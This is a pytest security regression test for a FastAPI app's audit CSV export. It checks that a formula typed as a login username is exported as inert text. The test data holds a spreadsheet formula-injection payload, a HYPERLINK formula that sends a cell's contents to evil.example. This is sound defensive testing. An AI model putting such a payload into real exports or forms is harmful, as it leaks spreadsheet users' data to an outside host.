"""Issue 22: what an attacker or a careless user found, each attack replayed over HTTP and now
failing (SQLite and PostgreSQL): formula injection into exports (finding 5), unhandled errors
(finding 8) and the smaller findings (9)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from shidian.platform.db.schema import login_throttle
from tests.web.conftest import csrf_of

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def forget_throttle(web_app: FastAPI) -> Iterator[None]:
    """Wrong user names from the test client count against it: forget them after the test."""
    yield
    with web_app.state.engine.begin() as conn:
        conn.execute(login_throttle.delete().where(login_throttle.c.bucket.like("%testclient%")))


def test_a_formula_typed_as_a_user_name_is_text_in_audit_csv(web_app, client_for, forget_throttle):
    stranger = TestClient(web_app)
    token = csrf_of(stranger)
    answer = stranger.post("/login", data={"username": FORMULA, "password": "x", "csrf_token": token})
    assert answer.status_code == 401
    export = client_for("admin").get("/admin/audit.csv", params={"action": "auth.login_failed"})
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    targets = [r[6] for r in rows[1:]]
    assert "'" + FORMULA in targets and FORMULA not in targets
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
